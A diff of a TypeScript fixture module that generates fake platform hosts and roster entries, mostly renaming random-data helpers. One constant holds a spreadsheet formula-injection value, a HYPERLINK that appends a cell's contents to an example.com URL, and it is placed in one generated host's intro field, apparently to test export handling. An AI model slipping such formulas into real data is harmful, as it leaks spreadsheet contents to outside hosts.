@@ -1,14 +1,22 @@
 import {
+  type BrandMaterial,
   type Campaign,
   type ContentItem,
   defaultRate,
   type Host,
   type HostProfile,
   type RosterEntry,
-  type Source,
   timeText,
 } from "../brand.js";
-import { between, chance, type Draws, draws, pick, seldomNull, uuid } from "./random.js";
+import {
+  chance,
+  createRandom,
+  orNull,
+  pick,
+  type RandomStream,
+  randomInteger,
+  randomUuid,
+} from "./random.js";
 
 /** A host of the platform whom the brand has met. */
 export interface Person {
@@ -37,66 +45,70 @@ const networks = "instagram|tiktok|youtube|strava|website|twitter|facebook|linke
 const formula = '=HYPERLINK("https://example.com/?x="&A1,"My shop")';
 
 export function createPerson(seed: number, place: number): Person {
-  const d = draws(seed, "host", place);
-  const id = uuid(d);
+  const d = createRandom(seed, "host", place);
+  const id = randomUuid(d);
   const [first, last] = [pick(d, firstNames.split("|")), pick(d, lastNames.split("|"))];
-  const handle = `${first}${pick(d, ["", ".", "_"])}${last}${between(d, 1, 99)}`
+  const handle = `${first}${pick(d, ["", ".", "_"])}${last}${randomInteger(d, 1, 99)}`
     .normalize("NFD")
     .replace(/[^a-zA-Z0-9._]/g, "")
     .toLowerCase();
   const profile: HostProfile = {
     id,
-    username: seldomNull(d, 0.05, handle),
-    first_name: seldomNull(d, 0.04, first),
-    last_name: seldomNull(d, 0.06, last),
-    profile_photo: seldomNull(d, 0.1, `https://images.example.com/hosts/${id}.jpg`),
-    title: seldomNull(d, 0.2, `${pick(d, disciplines)} coach & "${pick(d, specialties)}" fan`),
-    intro: place === 3 ? formula : seldomNull(d, 0.15, pick(d, intros.split("|"))),
-    discipline: seldomNull(d, 0.1, pick(d, disciplines)),
-    specialty: seldomNull(d, 0.3, pick(d, specialties)),
-    location: seldomNull(d, 0.15, pick(d, towns)),
-    socials: seldomNull(d, 0.12, drawSocials(d, handle)),
+    username: orNull(d, 0.05, handle),
+    first_name: orNull(d, 0.04, first),
+    last_name: orNull(d, 0.06, last),
+    profile_photo: orNull(d, 0.1, `https://images.example.com/hosts/${id}.jpg`),
+    title: orNull(d, 0.2, `${pick(d, disciplines)} coach & "${pick(d, specialties)}" fan`),
+    intro: place === 3 ? formula : orNull(d, 0.15, pick(d, intros.split("|"))),
+    discipline: orNull(d, 0.1, pick(d, disciplines)),
+    specialty: orNull(d, 0.3, pick(d, specialties)),
+    location: orNull(d, 0.15, pick(d, towns)),
+    socials: orNull(d, 0.12, drawSocials(d, handle)),
   };
   return {
     profile,
-    motto: seldomNull(d, 0.4, pick(d, mottos)),
+    motto: orNull(d, 0.4, pick(d, mottos)),
     rate: chance(d, 0.3) ? pick(d, [5, 7.5, 8, 10, 12.5, 15, 18, 20]) : null,
     weight: pick(d, [1, 1, 2, 3, 5, 8]),
   };
 }
 
-function drawSocials(d: Draws, handle: string): Record<string, string> {
+function drawSocials(d: RandomStream, handle: string): Record<string, string> {
   const chosen = networks.filter(() => chance(d, 0.3));
   const names = chosen.length > 0 ? chosen : ["website"];
   return Object.fromEntries(names.map((name) => [name, `https://${name}.example.com/${handle}`]));
 }
 
 /** Returns the base host object of orders, analytics and assignments. */
-export function hostOf({ profile }: Person): Host {
+export function toHost({ profile }: Person): Host {
   const { id, username, first_name, last_name, profile_photo } = profile;
   return { id, username, first_name, last_name, profile_photo };
 }
 
 /** Returns the content item's own shape of a host. */
-export function contentHostOf({ id, username, first_name, last_name }: Host): ContentItem["host"] {
+export function toContentHost({ id, username, first_name, last_name }: Host): ContentItem["host"] {
   const name = [first_name, last_name].filter((part) => part !== null).join(" ");
   return { id, username, name: name === "" ? null : name };
 }
 
 /** Returns a list in which each item stands as often as its weight says: a wheel to draw from. */
-export function wheelOf<T extends { weight: number }>(items: readonly T[]): T[] {
+export function repeatByWeight<T extends { weight: number }>(items: readonly T[]): T[] {
   return items.flatMap((item) => Array.from({ length: item.weight }, () => item));
 }
 
-export function createRosterEntry(source: Source, { profile, rate }: Person, joined: number): RosterEntry {
-  const d = draws(0, profile.id);
+export function createRosterEntry(
+  source: BrandMaterial,
+  { profile, rate }: Person,
+  joined: number,
+): RosterEntry {
+  const d = createRandom(0, profile.id);
   return {
-    relationship_id: uuid(d),
+    relationship_id: randomUuid(d),
     host: profile,
     status: "active",
     commission_rate: rate ?? defaultRate,
     joined_at: timeText(joined),
-    activated_at: seldomNull(d, 0.08, timeText(joined)),
+    activated_at: orNull(d, 0.08, timeText(joined)),
     campaigns: campaignsOf(profile.id, source.opportunities),
   };
 }
